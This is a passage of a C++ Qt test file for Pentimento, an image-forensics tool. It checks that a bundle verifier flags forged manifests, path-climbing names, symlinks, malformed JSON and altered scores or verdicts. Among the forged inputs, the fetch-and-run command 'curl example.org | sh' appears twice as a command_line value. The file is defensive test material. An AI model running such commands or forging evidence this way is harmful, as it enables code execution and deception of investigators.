// SPDX-FileCopyrightText: 2026 The Pentimento authors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/support/analysis_fixture.h"
#include "tests/support/forged_result.h"

#include "core/analysis/grid.h"
#include "core/bundle/npy.h"
#include "core/verification/verify_logits.h"

#include <cstring>
#include <functional>
#include <limits>

using namespace pentimento;
using namespace pentimento::verification;
using fixture::Forge;
using fixture::inResult;
using fixture::jsonOf;
using fixture::runAgain;
using fixture::set;

namespace {

/// The same for what plain JSON objects cannot hold.
Forge inResultText(const QByteArray& from, const QByteArray& to)
{
    return [=](const std::filesystem::path& bundle) {
        QByteArray text = fixture::bytesOf(bundle / "result.json");
        QVERIFY(text.contains(from));
        text.replace(text.indexOf(from), from.size(), to);
        fixture::overwrite(bundle / "result.json", text);
        fixture::rewriteManifest(bundle);
    };
}

Forge inManifest(const std::function<void(Json&)>& change)
{
    return [change](const std::filesystem::path& bundle) {
        Json manifest = jsonOf(bundle / "manifest.json");
        change(manifest);
        fixture::overwrite(bundle / "manifest.json", QByteArray::fromStdString(dumped(manifest)));
    };
}

Json& entryOf(Json& manifest, const std::string& name)
{
    for (Json& file : manifest["files"])
        if (file["name"] == name)
            return file;
    return manifest["files"][0];
}

/// A file more, listed with its true hash.
Forge addFile(const std::string& name)
{
    return [name](const std::filesystem::path& bundle) {
        fixture::overwrite(bundle / name, "CONFIRMED FAKE");
        Json manifest = jsonOf(bundle / "manifest.json");
        manifest["files"].push_back({{"name", name}, {"bytes", 0}, {"sha256", ""}});
        fixture::overwrite(bundle / "manifest.json", QByteArray::fromStdString(manifest.dump()));
        fixture::rewriteManifest(bundle);
    };
}

/// A file that the manifest does not list.
Forge leave(const std::string& name, const QByteArray& bytes)
{
    return [=](const std::filesystem::path& bundle) { fixture::overwrite(bundle / name, bytes); };
}

/// A listed file, as large as one likes.
Forge grow(const std::string& name, std::uintmax_t bytes)
{
    return [=](const std::filesystem::path& bundle) {
        std::filesystem::resize_file(bundle / name, bytes);
        fixture::rewriteManifest(bundle);
    };
}

/// The manifest in other characters, which state the same.
Forge inManifestText(const std::function<QByteArray(QByteArray)>& change)
{
    return [change](const std::filesystem::path& bundle) {
        fixture::overwrite(bundle / "manifest.json",
                           change(fixture::bytesOf(bundle / "manifest.json")));
    };
}

/// The same of result.json.
Forge inResultBytes(const std::function<QByteArray(QByteArray)>& change)
{
    return [change](const std::filesystem::path& bundle) {
        fixture::overwrite(bundle / "result.json",
                           change(fixture::bytesOf(bundle / "result.json")));
        fixture::rewriteManifest(bundle);
    };
}

/// The same result as a program of the first words would have written it.
void asOfFirstWords(Json& result)
{
    result.erase("words");
    result.erase("report");
    result.erase("provenance");
    result["command_line"] = "pentimento-cli analyze --pack fixture --protocol windows --precision "
                             "fp32 --out reports -- 'photo.png'";
    if (result["quality"]["earlier_jpeg_likely"].is_null())
        result["quality"]["earlier_jpeg_likely"] = false;
}

} // namespace

Q_DECLARE_METATYPE(Forge)

/// Every forgery of a bundle that was tried, with the line that gives it away. SECURITY.md lists
/// them.
class TestForgedBundle : public QObject
{
    Q_OBJECT

private slots:
    void filesAndManifest_data();
    void filesAndManifest();
    void onlyWhatBelongsIsHashed();
    void desktopsLeaveTheirNotes();
    void manifestThatIsNotRead_data();
    void manifestThatIsNotRead();
    void numbersWithTheManifestRewritten_data();
    void numbersWithTheManifestRewritten();
    void mapsOfAnotherPicture();
    void analysisOfACroppedCopy();
    void honestBundlesPass_data();
    void honestBundlesPass();
    void whatNobodyCanKnowIsSaid();
    void wordsOfAnotherVersionAreNotCompared();
    void oldWordsExcuseNoFacts_data();
    void oldWordsExcuseNoFacts();
    void numbersFollowFromTheRecordedMaps_data();
    void numbersFollowFromTheRecordedMaps();
    void aDentInAMapIsFound();
    void marksOfOneRunAloneAreSaid();
    void firstManifests_data();
    void firstManifests();
    void logitsAreCompared();

private:
    static Analysis analysisIn(const QTemporaryDir& folder);
    static Analysis elsewhere(const Analysis& analysis, float by, const std::string& precision);
};

Analysis TestForgedBundle::analysisIn(const QTemporaryDir& folder)
{
    Analysis analysis = fixture::analysis(folder, {.heads = 3});
    fixture::calibrateByClass(analysis);
    return analysis;
}

/// The same picture analysed on a machine whose maps are off by up to `by`.
Analysis TestForgedBundle::elsewhere(const Analysis& analysis, float by,
                                     const std::string& precision)
{
    Analysis fresh = analysis;
    auto maps = std::make_shared<MapSet>(*analysis.maps);
    maps->precision = precision;
    maps->device = "CPU, 96 threads";
    const auto moved = [by](const HeatMap& map) {
        std::vector<float> cells(map.data(), map.data() + map.width() * map.height());
        for (std::size_t i = 0; i < cells.size(); ++i)
            cells[i] += by * static_cast<float>(i % 7) / 6;
        return mapLike(map, std::move(cells));
    };
    maps->combined = moved(maps->combined);
    for (HeadMap& head : maps->heads)
        head.map = moved(head.map);
    fresh.maps = maps;
    fresh.findings = findingsOf(*maps, fresh.pack, fresh.quality.qualityClass);
    fresh.spread = spreadOf(*maps);
    fresh.highest = highestPlace(maps->combined);
    fresh.decodeSeconds = 7;
    return fresh;
}

void TestForgedBundle::filesAndManifest_data()
{
    QTest::addColumn<Forge>("forge");
    QTest::addColumn<QString>("line");
    const auto row = [](const char* name, Forge forge, const char* line) {
        QTest::newRow(name) << std::move(forge) << QString(line);
    };
    row("every length 1", inManifest([](Json& manifest) {
            for (Json& file : manifest["files"])
                file["bytes"] = 1;
        }),
        "map.png: holds");
    row("no length",
        inManifest([](Json& manifest) { entryOf(manifest, "map.png").erase("bytes"); }),
        "map.png: the manifest does not state how many bytes");
    row("a length below nothing",
        inManifest([](Json& manifest) { entryOf(manifest, "map.png")["bytes"] = -5; }),
        "map.png: the manifest does not state how many bytes");
    row("a statement in the manifest", inManifest([](Json& manifest) {
            manifest["statement"] = "This picture is a proven forgery.";
        }),
        "manifest.json: holds fields that the program does not write");
    row("a verdict beside a file's hash",
        inManifest([](Json& manifest) { manifest["files"][0]["verdict"] = "strong"; }),
        "manifest.json: holds fields that the program does not write");
    row("the manifest of another day",
        inManifest([](Json& manifest) { manifest["created"] = "1999-01-01T00:00:00Z"; }),
        "manifest.json: names another run than result.json");
    row("a sentence as the program's commit", inManifest([](Json& manifest) {
            manifest["application"]["commit"] = "Signed off by the court";
        }),
        "manifest.json: names another run than result.json");
    row("a file listed twice", inManifest([](Json& manifest) {
            Json again = entryOf(manifest, "result.json");
            manifest["files"].push_back(again);
        }),
        "result.json: the manifest lists it twice");
    row(
        "a hidden report",
        [](const auto& bundle) { fixture::overwrite(bundle / ".report.pdf", "hidden"); },
        ".report.pdf: is not listed");
    row("a report that differs in capitals alone", addFile("Report.pdf"),
        "Report.pdf: is no name of a bundle's file");
    row("a listed file that no bundle has", addFile("confirmation.pdf"),
        "confirmation.pdf: is no file of a bundle");
    row("a program as the decoder's own output, which nobody asked for",
        addFile("logits-head-1.npy"), "logits-head-1.npy: is no file of a bundle");
    row("a wording from the future", set("/words", 3), "words are of a version");
    row("a wording between two", set("/words", 1.5), "words are of a version");
    row("a wording before the first", set("/words", 0), "words are of a version");
    row("two megabytes of notes", set("/analyst/notes", std::string(2'000'000, 'x')),
        "text of notes is 2000000 bytes long");
    row("a name as long as a page", set("/analyst/name", std::string(501, 'x')),
        "name is 501 bytes long");
    row("a map of a head that is not there", addFile("map-truth.png"),
        "map-truth.png: is no file of a bundle");
    row(
        "a folder", [](const auto& bundle) { std::filesystem::create_directory(bundle / "more"); },
        "more: is not listed");
    row(
        "a folder that looks like a desktop's",
        [](const auto& bundle) { std::filesystem::create_directory(bundle / ".directory"); },
        ".directory: is not listed");
    row(
        "a listed file that is a link",
        [](const auto& bundle) {
            std::filesystem::rename(bundle / "report.pdf", bundle.parent_path() / "report.pdf");
            std::filesystem::create_symlink("../report.pdf", bundle / "report.pdf");
        },
        "report.pdf: is no plain file");
    row(
        "an unlisted link",
        [](const auto& bundle) {
            std::filesystem::create_symlink("/etc/hostname", bundle / "link");
        },
        "link: is not listed");
    row("a name that climbs out", inManifest([](Json& manifest) {
            manifest["files"].push_back({{"name", "../photo.png"}, {"bytes", 1}, {"sha256", ""}});
        }),
        "../photo.png: is no name");
    row("another picture's name in the manifest",
        inManifest([](Json& manifest) { manifest["picture"]["name"] = "other.png"; }),
        "about another picture");
    row("another picture's length in the manifest",
        inManifest([](Json& manifest) { manifest["picture"]["bytes"] = 7; }),
        "about another picture");
    row("a map larger than any of the picture's size", grow("map.png", 17U << 20U),
        "map.png: is larger than any of its kind");
    row("a report larger than any", grow("report.pdf", 257U << 20U),
        "report.pdf: is larger than any of its kind");
    row("names for the desktop", leave("desktop.ini", "[LocalizedFileNames]\nreport.pdf=FAKE\n"),
        "desktop.ini: is not listed in the manifest, and gives names");
    row("a tip for the desktop",
        leave("desktop.ini", "[ViewState]\nInfoTip=Confirmed as AI-made\n"),
        "desktop.ini: is not listed in the manifest, and gives names");
    row("a folder's name", leave(".directory", "[Desktop Entry]\nName=CONFIRMED FAKE\n"),
        ".directory: is not listed in the manifest, and gives names");
    row("a page for the desktop", leave("desktop.ini", QByteArray("[ViewState]\r\n").repeated(40)),
        "desktop.ini: is not listed in the manifest, and is larger");
    row("another picture as thumbnails", leave("Thumbs.db", "\xff\xd8\xff\xe0 a JPEG"),
        "Thumbs.db: is not listed in the manifest, and is no file that file managers leave");
    row("a text for the desktop", leave(".DS_Store", "CONFIRMED FAKE"),
        ".DS_Store: is not listed in the manifest, and is no file that file managers leave");
    const auto behindMark = [](const QByteArray& text) { return "\xef\xbb\xbf" + text; };
    const auto spaced = [](const QByteArray& text) {
        return QByteArray(200'000, '\n') + text + QByteArray(300'000, ' ');
    };
    const auto escaped = [](QByteArray text) {
        return text.replace("\"report.pdf\"", "\"\\u0072eport.pdf\"");
    };
    const auto swapped = [](const QByteArray& text) {
        const Json manifest = Json::parse(text.toStdString());
        Json other = Json::object();
        for (const char* key : {"files", "picture", "created", "application", "schema"})
            other[key] = manifest[key];
        return QByteArray::fromStdString(dumped(other));
    };
    const QString inManifest = "manifest.json: says what it should in other characters";
    QTest::newRow("the manifest behind a byte order mark")
        << inManifestText(behindMark) << inManifest;
    QTest::newRow("a manifest of spaces") << inManifestText(spaced) << inManifest;
    QTest::newRow("a manifest with escaped letters") << inManifestText(escaped) << inManifest;
    QTest::newRow("a manifest in another order") << inManifestText(swapped) << inManifest;
    QTest::newRow("a manifest of fractions") << inManifestText([](QByteArray text) {
        return text.replace("\"schema\": 1", "\"schema\": 1.0");
    }) << inManifest;
    const QString inResultFile = "result.json: says what it should in other characters";
    QTest::newRow("the result behind a byte order mark")
        << inResultBytes(behindMark) << inResultFile;
    QTest::newRow("a result of spaces") << inResultBytes(spaced) << inResultFile;
    QTest::newRow("a result with escaped letters") << inResultBytes([](QByteArray text) {
        return text.replace("\"words\"", "\"\\u0077ords\"");
    }) << inResultFile;
    QTest::newRow("a number of sixty digits") << inResultBytes([](QByteArray text) {
        return text.replace("\"threshold\": 0.5",
                            "\"threshold\": 0.5" + QByteArray(40, '0') + QByteArray(20, '9'));
    }) << inResultFile;
    row("an overlay style that is not the overlay's", set("/overlay/style/opacity", 0.2),
        "overlay.png: states other numbers");
}

void TestForgedBundle::filesAndManifest()
{
    QFETCH(Forge, forge);
    QFETCH(QString, line);
    QTemporaryDir folder;
    const auto bundle = fixture::pathIn(folder, "bundle");
    QVERIFY(writeBundle(analysisIn(folder), bundle));
    forge(bundle);
    const auto report = verifyBundle(bundle);
    QVERIFY2(report, report ? "" : report.error().message.c_str());
    QVERIFY(!report->ok());
    QVERIFY2(fixture::has(*report, false, line.toStdString()),
             fixture::linesOf(*report).constData());
}

void TestForgedBundle::onlyWhatBelongsIsHashed()
{
    QTemporaryDir folder;
    const auto bundle = fixture::pathIn(folder, "bundle");
    QVERIFY(writeBundle(analysisIn(folder), bundle));
    // Whatever is hashed is reported, and an unreadable file would be an error.
    addFile("a.png")(bundle);
    inManifest([](Json& manifest) {
        for (int i = 0; i < 900; ++i)
            manifest["files"].push_back(Json(entryOf(manifest, "map.png")));
    })(bundle);
    std::vector<std::string> stages;
    const auto report = verifyBundle(
        bundle, {}, {{}, [&](double, std::string_view stage) { stages.emplace_back(stage); }});
    QVERIFY(report);
    QCOMPARE(std::count(stages.begin(), stages.end(), "map.png"), 1);
    QCOMPARE(std::count(stages.begin(), stages.end(), "a.png"), 0);
    QVERIFY(fixture::has(*report, false, "a.png: is no file of a bundle"));
}

void TestForgedBundle::desktopsLeaveTheirNotes()
{
    QTemporaryDir folder;
    const auto bundle = fixture::pathIn(folder, "bundle");
    QVERIFY(writeBundle(analysisIn(folder), bundle));
    leave("desktop.ini", "[ViewState]\r\nMode=\r\nVid=\r\nFolderType=Generic\r\n")(bundle);
    leave(".directory", "[Dolphin]\nTimestamp=2026,3,1,12,30,0\nVersion=4\nViewMode=1\n\n"
                        "[Settings]\nHiddenFilesShown=true\n")(bundle);
    leave("Thumbs.db", QByteArray::fromHex("d0cf11e0a1b11ae1") + QByteArray(504, '\0'))(bundle);
    leave(".DS_Store", QByteArray("\0\0\0\1Bud1", 8) + QByteArray(100, '\0'))(bundle);
    const auto report = verifyBundle(bundle);
    QVERIFY2(report->ok(), fixture::linesOf(*report).constData());
    for (const char* name : {"desktop.ini", ".directory", "Thumbs.db", ".DS_Store"})
        QVERIFY2(fixture::has(*report, CheckState::NotChecked,
                              std::string(name) + ": is no part of the evidence"),
                 fixture::linesOf(*report).constData());
}

void TestForgedBundle::manifestThatIsNotRead_data()
{
    QTest::addColumn<QByteArray>("from");
    QTest::addColumn<QByteArray>("to");
    QTest::newRow("a key twice") << QByteArray("\"files\": [")
                                 << QByteArray("\"files\": [], \"files\": [");
    QTest::newRow("beyond all numbers")
        << QByteArray("\"schema\": 1") << QByteArray("\"schema\": 1e999");
    QTest::newRow("no number") << QByteArray("\"schema\": 1") << QByteArray("\"schema\": NaN");
    QTest::newRow("eight million brackets")
        << QByteArray("\"schema\": 1") << "\"schema\": " + QByteArray(8 << 20, '[');
    QTest::newRow("too long") << QByteArray("\"schema\": 1")
                              << "\"schema\": \"" + QByteArray(17 << 20, 'x') + '"';
    for (const QByteArray& name : {QByteArray("photo.png"), QByteArray("map.png")})
        QTest::addRow("a name without end for %s", name.constData())
            << "\"name\": \"" + name << "\"name\": \"" + QByteArray(15 << 20, 'x') + name;
}

void TestForgedBundle::manifestThatIsNotRead()
{
    QFETCH(QByteArray, from);
    QFETCH(QByteArray, to);
    QTemporaryDir folder;
    const auto bundle = fixture::pathIn(folder, "bundle");
    QVERIFY(writeBundle(analysisIn(folder), bundle));
    QByteArray text = fixture::bytesOf(bundle / "manifest.json");
    QVERIFY(text.contains(from));
    fixture::overwrite(bundle / "manifest.json", text.replace(from, to));
    const auto report = verifyBundle(bundle);
    QVERIFY(!report);
    QCOMPARE(report.error().code, ErrorCode::UnreadableInput);
}

void TestForgedBundle::numbersWithTheManifestRewritten_data()
{
    QTest::addColumn<Forge>("forge");
    QTest::addColumn<QString>("line");
    const auto row = [](const char* name, Forge forge, const char* line) {
        QTest::newRow(name) << std::move(forge) << QString(line);
    };
    row("score", set("/combined/score", 0.2), "combined.score is 0.2");
    row("score lifted a little", set("/heads/1/score", 0.1937), "heads[1].score");
    row("area", set("/combined/area", 0.9), "combined.area");
    row("verdict", set("/combined/verdict", "no-evidence"), "combined.verdict");
    row("a head's verdict", set("/heads/1/verdict", "strong"), "heads[1].verdict");
    row("rate", set("/combined/false_alarm_rate/rate", 0.9), "false_alarm_rate.rate");
    row("number of photos", set("/combined/false_alarm_rate/photos", 99999), "photos");
    row("rate of another class", set("/combined/false_alarm_rate/class", "original"), "class");
    row("that the class had too few photos",
        set("/combined/false_alarm_rate/instead_of", "original"),
        "instead_of is \"original\", a field that the program does not write");
    row("a field more", set("/conclusion", "This photo is fake."),
        "conclusion is \"This photo is fake.\", a field that the program does not write");
    row("a field more in a claim", set("/application/finding", "fake"), "application.finding");
    row("a field less", inResult([](Json& result) { result.erase("quality"); }),
        "quality is missing");
    row("what the file says",
        set("/provenance/statement", "Signed by the camera, valid and trusted"),
        "provenance.statement");
    row("credentials that nobody found", set("/provenance/c2pa/state", "trusted"),
        "provenance.c2pa.state");
    row("credentials of other bytes", set("/provenance/c2pa/bytes", 5000), "provenance.c2pa.bytes");
    row("a source type that nobody declared",
        set("/provenance/declared/digital_source_type", "digitalCapture"),
        "provenance.declared.digital_source_type");
    row("a head's training", set("/heads/0/trained_on", "everything"), "heads[0].trained_on");
    row("order of heads",
        inResult([](Json& result) { std::swap(result["heads"][0], result["heads"][1]); }),
        "heads[0].id");
    row("no heads", set("/heads", Json::array()), "heads has 0 entries");
    row("a string for a number", set("/combined/score", "0.9"), "combined.score is \"0.9\"");
    row("no number at all", set("/combined/score", nullptr), "combined.score is null");
    row("the rate in words", set("/heads/0/false_alarm_rate/text", "Nobody scores this high."),
        "heads[0].false_alarm_rate.text");
    row("a calibration line", set("/heads/0/calibration/strong", 0.1),
        "heads[0].calibration.strong");
    row("disagreement", set("/disagreement/share_by_one", 0.1), "disagreement.share_by_one");
    row("agreement in words", set("/disagreement/text", "All 3 detectors agree."),
        "disagreement.text");
    row("no disagreement", set("/disagreement", nullptr), "disagreement is null");
    row("pairs of heads left out", set("/disagreement/pairs", Json::array()),
        "disagreement.pairs has 0 entries");
    row("a region more", inResult([](Json& result) {
            result["regions"].push_back({{"x", 10},
                                         {"y", 10},
                                         {"width", 300},
                                         {"height", 200},
                                         {"area", 0.5},
                                         {"peak", 0.99},
                                         {"head", "head-2"}});
        }),
        "regions has 2 entries");
    row("a region elsewhere", set("/regions/0/x", 10), "regions[0].x");
    row("a region of negative size", set("/regions/0/width", -100), "regions[0].width");
    row("a region of another head", set("/regions/0/head", "head-2"), "regions[0].head");
    row("metadata of an editor",
        set("/metadata", Json::array({{{"group", "EXIF"},
                                       {"key", "Exif.Image.Software"},
                                       {"value", "Generative Fill"}}})),
        "metadata");
    row("software", set("/quality/software", "Generative Fill"), "quality.software");
    row("a remark on quality left out",
        inResult([](Json& result) { result["quality"]["remarks"].erase(0); }), "quality.remarks");
    row("a note of the forger", set("/notes", Json::array({"forged"})), "notes");
    row("a run's note twice",
        set("/notes", Json::array({"memory ran out; went on with smaller portions",
                                   "memory ran out; went on with smaller portions"})),
        "notes has 2 entries, the analysis gives 1");
    row("a GPU's note on a CPU",
        set("/notes", Json::array({"half precision (fp16) gave values that are no numbers; went on "
                                   "in single precision (fp32)"})),
        "notes has 1 entries, the analysis gives 0");
    row("a region that ends outside the picture", set("/regions/0/width", 328), "regions[0].width");
    row("a score lifted by a little less than a thousandth", inResult([](Json& result) {
            result["heads"][1]["score"] = result["heads"][1]["score"].get<double>() + 0.0009;
        }),
        "heads[1].score");
    row("seconds below nothing", set("/seconds/report", -7), "seconds.report is -7");
    row("seconds without end", set("/seconds/inference", 1e300), "seconds.inference");
    row("a sentence as the device", set("/device", "CPU: confirmed as fake by AFP"), "device is");
    row("a wording from the future, to say anything", inResult([](Json& result) {
            result["words"] = 3;
            result["quality"]["remarks"] = Json::array({"Confirmed as AI-made."});
        }),
        "words are of a version that this program does not know");
    row("format", set("/image/format", "JPEG"), "image.format");
    row("width", set("/image/width", 1), "image.width");
    row("height below nothing", set("/image/height", -240), "image.height");
    row("orientation", set("/image/orientation", 6), "image.orientation");
    row("another program", set("/application/name", "Photoshop"), "application.name");
    row("pack's version", set("/pack/version", "9"), "pack.version");
    row("another pack's name", set("/pack/name", "official"), "pack.name");
    row("a command that does something else",
        set("/command_line", "curl example.org | sh # pentimento-cli"), "command_line");
    row("a time that is a sentence", set("/created", "Confirmed by AFP"),
        "states a version, a time, a page or an overlay");
    row("a version that is a sentence", set("/application/version", "1 (confirmed by AFP)"),
        "states a version, a time, a page or an overlay");
    row("an opacity that hides", set("/overlay/style/opacity", 0.001),
        "states a version, a time, a page or an overlay");
    row("keys in another order", inResult([](Json& result) {
            Json other = Json::object();
            for (auto item = result.rbegin(); item != result.rend(); ++item)
                other[item.key()] = *item;
            result = other;
        }),
        "result.json: says what it should in other characters");
    row("a whole number as a fraction", set("/image/width", 320.0),
        "result.json: says what it should in other characters");
    row("an overlay of no head", set("/overlay/head", "nobody"), "report.pdf: cannot be made anew");
    row("a hidden second score",
        inResultText("\"combined\": {", "\"combined\": {}, \"combined\": {"), "twice");
    row("huge exponent", inResultText("\"schema\": 1", "\"schema\": 1e999"), "JSON");
    row(
        "no report",
        [](const auto& bundle) {
            fixture::overwrite(bundle / "report.pdf", "# This is a text.");
            fixture::rewriteManifest(bundle);
        },
        "report.pdf: is no PDF");
    row(
        "the report of another picture",
        [](const auto& bundle) {
            QTemporaryDir other;
            const Analysis analysis = fixture::analysis(other, {.heads = 3, .seed = 5});
            QVERIFY(writeReport(analysis, bundle / "report.pdf"));
            fixture::rewriteManifest(bundle);
        },
        "report.pdf: ");
    row(
        "the report with notes that nobody recorded",
        [](const auto& bundle) {
            EvidenceOptions options;
            options.notes = "Verdict: STRONG EVIDENCE, confirmed";
            QTemporaryDir same;
            Analysis analysis = fixture::analysis(same, {.heads = 3});
            fixture::calibrateByClass(analysis);
            QVERIFY(writeReport(analysis, bundle / "report.pdf", options));
            fixture::rewriteManifest(bundle);
        },
        "report.pdf: ");
}

void TestForgedBundle::numbersWithTheManifestRewritten()
{
    QFETCH(Forge, forge);
    QFETCH(QString, line);
    QTemporaryDir folder;
    const Analysis analysis = analysisIn(folder);
    const auto bundle = fixture::pathIn(folder, "bundle");
    QVERIFY(writeBundle(analysis, bundle));
    forge(bundle);
    if (const auto result = readJsonFile(bundle / "result.json"); !result) {
        QVERIFY2(result.error().message.find(line.toStdString()) != std::string::npos,
                 result.error().message.c_str());
        QVERIFY(!verifyBundle(bundle)->ok());
        return;
    }
    const VerifyReport report = runAgain(bundle, analysis);
    QVERIFY(!report.ok());
    QVERIFY2(fixture::has(report, false, line.toStdString()), fixture::linesOf(report).constData());
}

void TestForgedBundle::mapsOfAnotherPicture()
{
    QTemporaryDir folder;
    QTemporaryDir other;
    const Analysis analysis = analysisIn(folder);
    const auto bundle = fixture::pathIn(folder, "bundle");
    QVERIFY(writeBundle(analysis, bundle));
    const auto foreign = fixture::pathIn(other, "bundle");
    QVERIFY(writeBundle(fixture::analysis(other, {.heads = 3, .peak = 0.7F, .seed = 5}), foreign));
    std::filesystem::copy(foreign / "map.png", bundle / "map.png",
                          std::filesystem::copy_options::overwrite_existing);
    fixture::rewriteManifest(bundle);
    QVERIFY(verifyBundle(bundle)->ok()); // hashes alone cannot tell
    const VerifyReport report = runAgain(bundle, analysis);
    QVERIFY(fixture::has(report, false, "map.png: largest difference"));
}

void TestForgedBundle::analysisOfACroppedCopy()
{
    QTemporaryDir folder;
    QTemporaryDir other;
    const Analysis whole = analysisIn(folder);
    const auto bundle = fixture::pathIn(folder, "bundle");
    QVERIFY(writeBundle(fixture::analysis(other, {.width = 160, .heads = 3}), bundle));
    inResult([&](Json& result) {
        result["image"]["sha256"] = whole.picture->file.sha256;
        result["image"]["bytes"] = whole.picture->file.bytes;
        result["image"]["width"] = 320;
    })(bundle);
    const VerifyReport report = runAgain(bundle, whole);
    QVERIFY(fixture::has(report, false, "map.png: is not of the picture's size"));
    QVERIFY(fixture::has(report, false, "report.pdf: "));
}

void TestForgedBundle::honestBundlesPass_data()
{
    QTest::addColumn<float>("shift");
    QTest::addColumn<QString>("precision");
    QTest::newRow("the same run") << 0.0F << "fp32";
    QTest::newRow("half precision, the same") << 0.0F << "bf16";
    QTest::newRow("other last digits") << 0.00004F << "fp32";
    QTest::newRow("half precision by other instructions") << 0.0025F << "bf16";
}

void TestForgedBundle::honestBundlesPass()
{
    QFETCH(float, shift);
    QFETCH(QString, precision);
    QTemporaryDir folder;
    const Analysis analysis = analysisIn(folder);
    const auto bundle = fixture::pathIn(folder, "bundle");
    EvidenceOptions options;
    options.page = PageSize::Letter;
    options.analyst = "A. Nalyst";
    options.question = "Was \u6f22 replaced?\nWhere?";
    options.notes = "<b>Not</b> sure.";
    options.overlay.colours = ColourMap::Magma;
    options.layer = LayerId::named("head-1");
    const Analysis recorded = elsewhere(analysis, 0, precision.toStdString());
    QVERIFY(writeBundle(recorded, bundle, options));

    const Analysis fresh = elsewhere(analysis, shift, precision.toStdString());
    const VerifyReport report = runAgain(bundle, fresh);
    QVERIFY2(report.ok(), fixture::linesOf(report).constData());
    // Marks of a score lie where its six recorded decimals put them, so other last digits may give
    // other bytes.
    const bool sameBytes = fixture::has(report, true, "report.pdf: is the report of these numbers");
    QVERIFY2(sameBytes || (shift > 0 && fixture::has(report, CheckState::NotChecked,
                                                     "report.pdf: other bytes than")),
             fixture::linesOf(report).constData());
    QVERIFY(fixture::has(report, true, "result.json: every number"));
    QCOMPARE(fixture::has(report, true, "within the tolerance (largest difference"), shift > 0);
}

void TestForgedBundle::whatNobodyCanKnowIsSaid()
{
    QTemporaryDir folder;
    const Analysis analysis = analysisIn(folder);
    const auto bundle = fixture::pathIn(folder, "bundle");
    EvidenceOptions options;
    options.analyst = "A. Nalyst";
    QVERIFY(writeBundle(analysis, bundle, options));
    const VerifyReport report = runAgain(bundle, analysis);
    for (const char* field : {"created", "device", "seconds.decode", "analyst.name"})
        QVERIFY2(fixture::has(report, CheckState::Stated, field),
                 fixture::linesOf(report).constData());
    QVERIFY(!fixture::has(report, CheckState::Stated, "analyst.notes"));
    QVERIFY(!fixture::has(report, CheckState::NotChecked, ""));

    // A renamed copy of the picture is the same picture, but the name is not its own.
    Analysis renamed = analysis;
    auto picture = std::make_shared<Picture>(*analysis.picture);
    picture->file.name = "renamed.png";
    renamed.picture = picture;
    const VerifyReport again = runAgain(bundle, renamed);
    QVERIFY2(again.ok(), fixture::linesOf(again).constData());
    QVERIFY(fixture::has(again, CheckState::NotChecked, "the picture's name"));
}

void TestForgedBundle::wordsOfAnotherVersionAreNotCompared()
{
    QTemporaryDir folder;
    const Analysis analysis = analysisIn(folder);
    const auto bundle = fixture::pathIn(folder, "bundle");
    QVERIFY(writeBundle(analysis, bundle));
    inResult([](Json& result) {
        asOfFirstWords(result);
        result["combined"]["false_alarm_rate"]["text"] = "As it was once said.";
        result["quality"]["remarks"].push_back("Once more was remarked.");
    })(bundle);
    const VerifyReport report = runAgain(bundle, analysis);
    QVERIFY2(report.ok(), fixture::linesOf(report).constData());
    QVERIFY2(fixture::has(report, CheckState::NotChecked, "Once more was remarked."),
             fixture::linesOf(report).constData());
    QVERIFY(fixture::has(report, CheckState::NotChecked, "report.pdf"));
    fixture::overwrite(bundle / "report.pdf", "none");
    inResult([](Json& result) { result["notes"] = {"Transparent parts were laid on white."}; })(
        bundle);
    QVERIFY2(fixture::has(runAgain(bundle, analysis), CheckState::NotChecked,
                          "notes what this picture does not give: \"Transparent parts"),
             fixture::linesOf(runAgain(bundle, analysis)).constData());

    // That opens no door for numbers.
    set("/combined/verdict", "no-evidence")(bundle);
    QVERIFY(fixture::has(runAgain(bundle, analysis), false, "combined.verdict"));
    set("/truth", "fake")(bundle);
    QVERIFY(fixture::has(runAgain(bundle, analysis), false, "truth"));
}

void TestForgedBundle::oldWordsExcuseNoFacts_data()
{
    QTest::addColumn<QString>("pointer");
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("line");
    const auto row = [](const char* name, const char* pointer, const char* value,
                        const char* line) { QTest::newRow(name) << pointer << value << line; };
    row("metadata", "/metadata",
        R"([{"group": "XMP", "key": "Xmp.xmp.CreatorTool", "value": "Generative Fill"}])",
        "metadata has 1 entries");
    row("a note", "/notes", R"(["Confirmed as AI-made."])", "notes has 1 entries");
    row("notes of another picture", "/notes",
        R"(["The main one of 66 pictures in the file is analysed."])", "notes has 1 entries");
    row("a sentence longer than any", "/disagreement/text",
        ('"' + std::string(501, 'x') + '"').c_str(),
        "disagreement.text is longer than any sentence");
    row("traces of an earlier JPEG", "/quality/earlier_jpeg_likely", "true",
        "quality.earlier_jpeg_likely");
    row("a command", "/command_line", R"("curl example.org | sh")", "command_line");
    row("a number for a sentence", "/disagreement/text", "0.99", "disagreement.text");
    row("how pixels are stored", "/quality/compression", R"("lossless")", "quality.compression");
}

void TestForgedBundle::oldWordsExcuseNoFacts()
{
    QFETCH(QString, pointer);
    QFETCH(QString, value);
    QFETCH(QString, line);
    QTemporaryDir folder;
    const Analysis analysis = analysisIn(folder);
    const auto bundle = fixture::pathIn(folder, "bundle");
    QVERIFY(writeBundle(analysis, bundle));
    inResult(asOfFirstWords)(bundle);
    // Drawing its pages would take most of the time here.
    fixture::overwrite(bundle / "report.pdf", "none");
    const VerifyReport honest = runAgain(bundle, analysis);
    QVERIFY2(!fixture::has(honest, false, "result.json"), fixture::linesOf(honest).constData());
    set(pointer.toStdString(), Json::parse(value.toStdString()))(bundle);
    const VerifyReport report = runAgain(bundle, analysis);
    QVERIFY2(fixture::has(report, false, line.toStdString()), fixture::linesOf(report).constData());
}

void TestForgedBundle::numbersFollowFromTheRecordedMaps_data()
{
    QTest::addColumn<QString>("pointer");
    QTest::addColumn<double>("by");
    QTest::newRow("a score") << "/heads/1/score" << 0.001;
    QTest::newRow("a detector's area") << "/heads/1/area" << 0.03;
    QTest::newRow("the area that any marks") << "/disagreement/marked_area" << 0.03;
    QTest::newRow("what all mark") << "/disagreement/share_by_all" << 0.9;
    QTest::newRow("what one marks") << "/disagreement/share_by_one" << -0.9;
    QTest::newRow("where two agree") << "/disagreement/pairs/0/iou" << 0.5;
    QTest::newRow("a region's place") << "/regions/0/x" << 8.0;
    QTest::newRow("a region's size") << "/regions/0/width" << 8.0;
    QTest::newRow("a region's peak") << "/regions/0/peak" << 0.003;
    QTest::newRow("a region's area") << "/regions/0/area" << 0.01;
}

void TestForgedBundle::numbersFollowFromTheRecordedMaps()
{
    QFETCH(QString, pointer);
    QFETCH(double, by);
